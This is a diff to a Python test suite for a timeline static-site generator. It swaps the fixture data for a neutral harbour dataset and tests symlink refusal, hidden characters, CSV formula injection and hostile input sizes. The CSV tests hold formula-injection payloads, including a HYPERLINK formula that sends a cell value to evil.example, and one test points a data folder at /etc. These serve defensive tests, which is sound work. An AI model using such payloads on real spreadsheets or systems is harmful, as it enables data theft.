@@ -22,15 +22,15 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from generator import export, quotes
-from generator.cli import main
-from generator.model import Actor, load_dataset
-from generator.config import SiteConfig
-from generator.site import GeneratedPageError, Site, front_matter
-from generator.plugin import TimelinePlugin
-from generator.urls import url_problem
 from generator.check import check
-from tests.cases import REPO, base_tree
-from tests.conftest import build_site, copy_repo
+from generator.cli import main
+from generator.config import SiteConfig
+from generator.model import Actor, load_dataset
+from generator.plugin import TimelinePlugin
+from generator.site import GeneratedPageError, Site, front_matter
+from generator.urls import url_problem
+from tests.cases import HARBOUR, REPO, base_tree, copy_site
+from tests.conftest import build_site
 
 EVENT_HEAD = "# yaml-language-server: $schema=../../schemas/event.schema.json\n"
 ACTOR_HEAD = "# yaml-language-server: $schema=../../schemas/actor.schema.json\n"
@@ -61,7 +61,7 @@ def write_event(root: Path, ident: str, date: str, *, title: str = "An event wri
     sources = sources or ('  - url: https://example.org/story\n    publisher: Example Wire\n'
                           f'    published: "{date.split("/")[-1] if date.split("/")[-1] != ".." else date[:4]}"\n')
     path.write_text(f"{EVENT_HEAD}id: {ident}\ndate: {json.dumps(date)}\ntitle: {json.dumps(title)}\n"
-                    f"summary: {json.dumps(summary)}\nstatus: {status}\nactors:\n  participant: [north-korea]\n"
+                    f"summary: {json.dumps(summary)}\nstatus: {status}\nactors:\n  participant: [riverside-council]\n"
                     f"sources:\n{sources}{extra}", encoding="utf-8")
     return path
 
@@ -69,7 +69,7 @@ def write_event(root: Path, ident: str, date: str, *, title: str = "An event wri
 # -- 1. noncharacters: generated pages never depend on a front-matter parse of contributor text ----------
 
 def test_front_matter_that_cannot_be_read_back_stops_the_page(tmp_path) -> None:
-    data, _ = load_dataset(REPO)
+    data, _ = load_dataset(HARBOUR)
     site = Site(data, SiteConfig())
     page = site.page("probe/", "tags.html", "A title \ufffe with a noncharacter 😀", rows=[])
     assert front_matter(page.content)["title"] == "A title \ufffe with a noncharacter 😀"  # written escaped, read back
@@ -79,7 +79,7 @@ def test_front_matter_that_cannot_be_read_back_stops_the_page(tmp_path) -> None:
 def test_a_page_whose_front_matter_does_not_read_back_is_never_written(monkeypatch) -> None:
     import generator.site.page as pages
 
-    data, _ = load_dataset(REPO)
+    data, _ = load_dataset(HARBOUR)
     monkeypatch.setattr(pages, "front_matter", lambda content: {})
     with pytest.raises(GeneratedPageError, match="does not read back"):
         Site(data, SiteConfig()).page("probe/", "tags.html", "Any title", rows=[])
@@ -105,11 +105,11 @@ def test_symlinked_data_folders_are_refused(tree: Path, tmp_path: Path) -> None:
     (outside / "seeds" / "999_secret.txt").write_text("a secret outside the repository\n")
     (tree / "seeds").rename(tmp_path / "real-seeds")
     (tree / "seeds").symlink_to(outside / "seeds")
-    year = tree / "events" / "2023"
-    year.rename(tmp_path / "real-2023")
-    year.symlink_to(tmp_path / "real-2023")
+    year = tree / "events" / "2025"
+    year.rename(tmp_path / "real-2025")
+    year.symlink_to(tmp_path / "real-2025")
     tree_codes = _codes(tree)
-    assert ("seeds", "symlink") in tree_codes and ("events/2023", "symlink") in tree_codes
+    assert ("seeds", "symlink") in tree_codes and ("events/2025", "symlink") in tree_codes
     assert not any(path.startswith("seeds/999") for path, _ in tree_codes)  # nothing outside was read
     (tree / "seeds").unlink()
     (tree / "seeds").symlink_to("/etc")
@@ -123,38 +123,38 @@ def test_symlinked_data_folders_are_refused(tree: Path, tmp_path: Path) -> None:
 
 def test_seed_texts_are_checked_for_size_lines_and_hidden_characters(tree: Path) -> None:
     seeds = tree / "seeds"
-    good = seeds / "000_65330dcba1575753.txt"
+    good = seeds / "001_f6eaeb197de4692c.txt"
     original = good.read_bytes()
     cases = {
-        "noncharacter": (original.replace(b"Last week", "Last\ufdd0week".encode()), "forbidden-character"),
-        "bidi": (original.replace(b"Last week", "Last \u202eweek".encode()), "forbidden-character"),
+        "noncharacter": (original.replace(b"on Friday", "on\ufdd0Friday".encode()), "forbidden-character"),
+        "bidi": (original.replace(b"on Friday", "on \u202eFriday".encode()), "forbidden-character"),
         "byte-order-mark": (b"\xef\xbb\xbf" + original, "forbidden-character"),
-        "c0-control": (original.replace(b"Last week", b"Last\x01week"), "forbidden-character"),
+        "c0-control": (original.replace(b"on Friday", b"on\x01Friday"), "forbidden-character"),
         "too-long-line": (b"a" * 20_001 + b"\n", "line-too-long"),
         "too-large": (b"a b c d e\n" * 30_000, "file-too-large"),
-        "not-utf8": (original.replace(b"Last", b"L\xffst"), "encoding"),
+        "not-utf8": (original.replace(b"Friday", b"Fr\xffday"), "encoding"),
     }
     for name, (content, code) in cases.items():
         good.write_bytes(content)
         found = _codes(tree)
-        assert ("seeds/000_65330dcba1575753.txt", code) in found, name
+        assert ("seeds/001_f6eaeb197de4692c.txt", code) in found, name
         # the metadata is not told its text is missing: the text's own finding says what is wrong
-        assert ("seeds/000_65330dcba1575753.yaml", "missing-seed-text") not in found, name
-    good.write_bytes(original.replace(b"Last week", b"Last\tweek").replace(b"\n", b"\r\n"))
+        assert ("seeds/001_f6eaeb197de4692c.yaml", "missing-seed-text") not in found, name
+    good.write_bytes(original.replace(b"on Friday", b"on\tFriday").replace(b"\n", b"\r\n"))
     assert not [c for p, c in _codes(tree) if p.startswith("seeds/000")]  # tabs and CR LF are plain text
 
 
 # -- 4. what the checker accepts, the build renders ----------------------------------------------------------
 
 def test_dates_at_the_ends_of_the_accepted_range_build(tmp_path) -> None:
-    root = copy_repo(tmp_path / "repo")
+    root = copy_site(tmp_path / "repo")
     write_event(root, "0001-01-01-earliest-possible-day", "0001-01-01", extra=(
-        "figures:\n  - metric: troops-deployed\n    value: 1\n    qualifier: exact\n    as_of: \"0001-01\"\n"
-        "    claimed_by: [north-korea]\n"))
+        "figures:\n  - metric: passengers\n    value: 1\n    qualifier: exact\n    as_of: \"0001-01\"\n"
+        "    claimed_by: [riverside-council]\n"))
     write_event(root, "9998-latest-possible-year", "9998", status="expected",
                 sources='  - url: https://example.org/plan\n    publisher: Example Wire\n    published: "2024-10-18"\n',
-                extra=("figures:\n  - metric: troops-deployed\n    value: 2\n    qualifier: exact\n"
-                       "    as_of: \"9998-12\"\n    claimed_by: [north-korea]\n"))
+                extra=("figures:\n  - metric: passengers\n    value: 2\n    qualifier: exact\n"
+                       "    as_of: \"9998-12\"\n    claimed_by: [riverside-council]\n"))
     write_event(root, "9998-24-winter-at-the-end", "9998-24", status="expected",
                 sources='  - url: https://example.org/plan\n    publisher: Example Wire\n    published: "2024-10-18"\n')
     _, result = check(root)
@@ -178,7 +178,7 @@ def test_tag_ids_that_collide_with_generated_pages_are_refused(tree: Path) -> No
 
 
 def test_an_empty_dataset_builds_a_valid_empty_site(tmp_path) -> None:
-    root = copy_repo(tmp_path / "repo")
+    root = copy_site(tmp_path / "repo")
     for year in (root / "events").glob("[0-9]*"):
         for event in year.glob("*.yaml"):
             event.unlink()
@@ -190,12 +190,12 @@ def test_an_empty_dataset_builds_a_valid_empty_site(tmp_path) -> None:
 
 
 def test_actor_of_a_kind_the_pages_do_not_know_is_still_listed() -> None:
-    data, _ = load_dataset(REPO)
-    data.actors["acme-corporation"] = Actor(id="acme-corporation", name="Acme Corporation", kind="company",
+    data, _ = load_dataset(HARBOUR)
+    data.actors["acme-corporation"] = Actor(id="acme-corporation", name="Acme Corporation", kind="port-regulator",
                                             description="An actor of a kind added to the schema later.")
     from generator.site.views import actors as actor_views
     [page] = actor_views.build_index(Site(data, SiteConfig()))
-    assert "Acme Corporation" in page.content and "Company" in page.content
+    assert "Acme Corporation" in page.content and "Port regulator" in page.content
 
 
 # -- 5. CSV formula injection -------------------------------------------------------------------------------
@@ -205,17 +205,19 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+1+1", "-2+3", 
 
 
 def test_csv_cells_never_start_a_formula_and_json_keeps_every_value(tmp_path) -> None:
-    data, _ = load_dataset(REPO)
-    for event, title in zip(data.events, FORMULAS):
+    data, _ = load_dataset(HARBOUR)
+    assert len(data.events) > len(FORMULAS) - 2
+    formulas = FORMULAS[:len(data.events) - 1]  # the last event keeps an ordinary title
+    for event, title in zip(data.events, formulas, strict=False):
         event.title = title
         event.notes = title
     rows = list(csv.DictReader(io.StringIO(export.export(data, "csv", SiteConfig()), newline="")))
     by_id = {row["id"]: row for row in rows}
-    for event, title in zip(data.events, FORMULAS):
+    for event, title in zip(data.events, formulas, strict=False):
         assert by_id[event.id]["title"] == "'" + title, title
         assert by_id[event.id]["notes"] == "'" + title
     records = {e["id"]: e for e in json.loads(export.export(data, "json", SiteConfig()))["events"]}
-    for event, title in zip(data.events, FORMULAS):
+    for event, title in zip(data.events, formulas, strict=False):
         assert records[event.id]["title"] == title
     assert rows[-1]["title"] == data.events[-1].title  # ordinary text is left alone
 
@@ -238,7 +240,7 @@ def test_quote_spans_agree_with_a_brute_force_search(text: str, quote: str) -> N
 
 
 def test_hostile_sizes_check_and_build_in_seconds(tmp_path) -> None:
-    root = copy_repo(tmp_path / "repo")
+    root = copy_site(tmp_path / "repo")
     # A seed that a two-word quote matches every six characters, across every line: 200 events
     # quoting it made millions of overlapping spans, and the source page quadratic (353 s for 60 KB).
     line = ("aaaaa " * 3333).strip()
@@ -334,7 +336,7 @@ def _snapshot(folder: Path) -> dict[str, bytes]:
 
 
 def test_pages_never_replaces_what_it_did_not_write(tmp_path) -> None:
-    root = copy_repo(tmp_path / "repo")
+    root = copy_site(tmp_path / "repo")
     (root / ".git").mkdir()
     (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
     before = _snapshot(root)
@@ -390,7 +392,7 @@ def test_new_validates_its_options_and_writes_nothing_the_check_refuses(tree: Pa
 
 
 def test_export_never_overwrites_data_or_an_existing_file_unasked(tree: Path, tmp_path: Path) -> None:
-    target = tree / "events" / "2024" / "2024-kursk-incursion.yaml"
+    target = tree / "events" / "2024" / "2024-10-08-first-repairs.yaml"
     before = target.read_bytes()
     run = _cli("export", "--root", str(tree), "--format", "json", "-o", str(target))
     assert run.returncode == 2 and "inside the repository's events/" in run.stderr
@@ -427,10 +429,10 @@ def test_check_of_a_tree_holding_every_invalid_case_at_once_finishes_in_seconds(
 # -- found by an independent attack after the first fixes ------------------------------------------------------
 
 def test_characters_beyond_the_basic_plane_build_everywhere(tmp_path) -> None:
-    root = copy_repo(tmp_path / "repo")
-    event = root / "events" / "2024" / "2024-06-17-putin-makes-state-visit-to-north-korea.yaml"
+    root = copy_site(tmp_path / "repo")
+    event = root / "events" / "2024" / "2024-10-08-first-repairs.yaml"
     event.write_text(event.read_text().replace("title: ", "title: 😀 𠮷 𝐚 ", 1), encoding="utf-8")
-    actor = root / "events" / "actors" / "cnn.yaml"
+    actor = root / "events" / "actors" / "riverside-courier.yaml"
     actor.write_text(actor.read_text().replace("description: ", "description: 🇺🇸 ", 1), encoding="utf-8")
     tags = root / "events" / "tags.yaml"
     tags.write_text(tags.read_text().replace("label: ", "label: 𝐚 ", 1), encoding="utf-8")
